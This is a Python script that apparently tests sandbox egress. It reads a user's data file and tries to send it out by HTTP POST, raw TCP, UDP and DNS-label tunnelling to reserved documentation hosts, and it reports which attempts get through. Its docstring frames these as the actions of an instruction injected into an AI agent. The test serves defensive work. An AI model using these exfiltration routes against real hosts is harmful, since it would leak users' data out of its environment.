"""What an injected instruction looks like: read the user's data and send it elsewhere.

It tries the ways that such code tries, and says what each of them gave. The destinations
are reserved for documentation (RFC 2606, RFC 5737, RFC 3849), so nobody receives
anything, wherever this runs. Exits with 0 if any attempt got through, else with 1.
"""

import base64
import socket
import sys
import urllib.error
import urllib.request

NAME = "collector.example"
ADDRESS = "192.0.2.10"
ADDRESS6 = "2001:db8::10"
TIMEOUT = 5

with open("/inputs/seattle-weather.csv", "rb") as f:
    data = f.read()
print(f"read {len(data):,} bytes of /inputs/seattle-weather.csv")


def post(host):
    """An HTTP POST of the whole file. Any answer, also an error, means the data arrived."""
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    request = urllib.request.Request(f"http://{host}/upload", data=data, method="POST")
    try:
        with opener.open(request, timeout=TIMEOUT) as answer:
            return f"HTTP {answer.status}"
    except urllib.error.HTTPError as answer:
        return f"HTTP {answer.code}"


def stream(address):
    """A connection without any protocol."""
    with socket.create_connection((address, 4444), timeout=TIMEOUT) as s:
        s.sendall(data)
    return f"sent {len(data):,} bytes"


def datagram(address):
    """One datagram: no connection, and no answer needed."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        return f"sent {s.sendto(data[:1000], (address, 9999))} bytes"


def look_up(domain):
    """The first bytes of the data as a name: the look-up itself would carry them out."""
    label = base64.b32encode(data[:30]).decode().rstrip("=").lower()
    found = socket.getaddrinfo(f"{label}.{domain}", 80)
    return f"resolved to {found[0][4][0]}"


attempts = [
    (f"POST to http://{NAME}", post, NAME),
    (f"POST to http://{ADDRESS}", post, ADDRESS),
    (f"TCP to {ADDRESS}:4444", stream, ADDRESS),
    (f"TCP to [{ADDRESS6}]:4444", stream, ADDRESS6),
    (f"UDP to {ADDRESS}:9999", datagram, ADDRESS),
    (f"DNS name below {NAME}", look_up, NAME),
]

through = 0
for label, attempt, target in attempts:
    try:
        result = attempt(target)
    except OSError as e:
        print(f"{label}: failed: {getattr(e, 'reason', None) or e}")
    else:
        through += 1
        print(f"{label}: GOT THROUGH: {result}")

print(f"{through} of {len(attempts)} attempts got through")
sys.exit(0 if through else 1)
